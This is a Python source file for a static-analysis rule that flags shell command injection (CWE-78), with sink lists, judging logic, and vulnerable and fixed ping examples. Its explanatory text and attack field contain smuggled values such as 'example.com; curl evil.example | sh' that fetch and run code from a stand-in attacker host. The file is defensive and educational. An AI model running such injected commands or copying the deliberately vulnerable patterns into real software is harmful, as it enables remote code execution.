"""A shell command that is built from a string."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Severity
from vetline_analyzers.flow.rule import PEOPLE, Arrival, FlowRule, Opinion, Sink
from vetline_analyzers.flow.texts import text_of

if TYPE_CHECKING:
    from vetline_analyzers.flow.rule import Called
    from vetline_analyzers.flow.value import Value

_SHELL = re.compile(r"(?:/\w+)*/?(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
_OPTION = re.compile(r"-l?c|/c")
_ALWAYS = (
    *(
        "os.system",
        "os.popen",
        "os.popen2",
        "os.popen3",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
    ),
    *(
        "commands.getoutput",
        "commands.getstatusoutput",
        "asyncio.create_subprocess_shell",
        "popen2.popen2",
    ),
    *(
        "system",
        "popen",
        "getoutput",
        "asyncio.subprocess.create_subprocess_shell",
        "pexpect.run",
        "platform.popen",
    ),
)
_ON_REQUEST = (
    *(f"subprocess.{n}" for n in ("run", "call", "check_call", "check_output", "Popen")),
    *("Popen", "check_output", "check_call"),
)


def _has_shell(called: Called) -> bool:
    shell = called.keywords.get("shell")
    return shell is not None and shell.truth is not False


def _starts_shell(called: Called) -> bool:
    """Whether a list says `sh -c text`."""
    command = called.argument(0) or called.argument("args")
    items = list((command.items or {}).values()) if command is not None and command.is_list else []
    return len(items) > 2 and _is_one(items[0], _SHELL) and _is_one(items[1], _OPTION)  # noqa: PLR2004 - shell, option, text


def _is_one(value: Value, pattern: re.Pattern[str]) -> bool:
    return bool(value.constants) and all(pattern.fullmatch(str(c)) for c in value.constants or ())


def _is_shell(called: Called) -> bool:
    return any(_SHELL.fullmatch(value.text or "") for value in called.arguments)


def _judge(arrival: Arrival) -> bool | Opinion | None:
    value = arrival.value
    if value.is_list and value.items:
        value = text_of(value.items.values())
    if (
        arrival.traced
        or arrival.is_built
        or Arrival(value, arrival.sink, None, (), (), arrival.alive).is_built
    ):
        return True
    if arrival.is_composed:
        return Opinion(RULE.possible, severity=Severity.LOW, confidence=Confidence.LOW)  # a number
    if arrival.call is not None and any(name in _ALWAYS for name in arrival.call.names):
        return _whole(arrival)
    return _whole(arrival) if arrival.sink.when is _has_shell else None


def _whole(arrival: Arrival) -> Opinion | None:
    """A command that comes from elsewhere as a whole."""
    if not arrival.is_open(arrival.value):
        return None
    return Opinion(
        "A shell runs a command that is not written here: pass a list of arguments without a shell.",
        confidence=Confidence.MEDIUM,
    )


RULE = FlowRule(
    id="python/command-from-string",
    title="Shell command built from a string",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(78,),
    page="""
A text with values in it is handed to a shell. The shell reads `;`, `|`, `$(…)` and line ends in those
values as its own: a file called `x; curl evil.example | sh` runs a program of the attacker.

Where a whole command comes from elsewhere and nothing shows from where, the finding is shown to
`--persona pedantic`.
""",
    advice='Pass a list and no shell: `subprocess.run(["ping", "-c", "1", host])`. If a shell is '
    "needed, put each value through `shlex.quote`.",
    bad=(
        """\
import os

def ping(host):
    os.system(f"ping -c 1 {host}")
""",
        """\
import subprocess

def ping(host):
    subprocess.run("ping -c 1 " + host, shell=True, check=True)
""",
        """\
from subprocess import check_output as co

def ping(host):
    cmd = "ping %s" % host
    return co(cmd, shell=True)
""",
        """\
import subprocess

def ping(h):
    subprocess.call(["sh", "-c", f"ping {h}"])
""",
        """\
import subprocess as sp

sp.Popen(input('command: '), shell=True)
""",
        """\
def run(ssh, name):
    ssh.exec_command(f"cat {name}")
""",
    ),
    good=(
        """\
import subprocess

def ping(host):
    subprocess.run(["ping", "-c", "1", host], check=True)
""",
        """\
import os

def clear():
    os.system("clear")
""",
        """\
import shlex, subprocess

def ping(host):
    subprocess.run(f"ping -c 1 {shlex.quote(host)} | tail -1", shell=True, check=True)
""",
        """\
import subprocess

def ping(h):
    subprocess.run(f"ping {h}".split())
""",
    ),
    same_as=tuple(f"bandit/B{n}" for n in (601, 602, 604, 605, 609)),
    url="https://docs.python.org/3/library/subprocess.html#security-considerations",
    kind="command",
    sinks=(
        Sink(names=_ALWAYS, arguments=(0, "cmd", "command")),
        Sink(names=_ON_REQUEST, arguments=(0, "args"), when=_has_shell),
        Sink(names=_ON_REQUEST, arguments=(0, "args"), when=_starts_shell),
        Sink(methods=("exec_command", "getoutput")),
        Sink(
            names=tuple(f"os.{n}" for n in ("execl", "execlp", "spawnl", "spawnlp")),
            arguments=("*",),
            when=_is_shell,
        ),
    ),
    traced="{label} reaches a shell here: what it holds can be a command. Pass a list of arguments without a shell.",
    possible="A shell command is built from a string: a value in it becomes a command. "
    "Pass a list of arguments without a shell.",
    sources=PEOPLE,
    judge=_judge,
    attack="The host `example.com; curl evil.example | sh` runs a program of the attacker.",
)
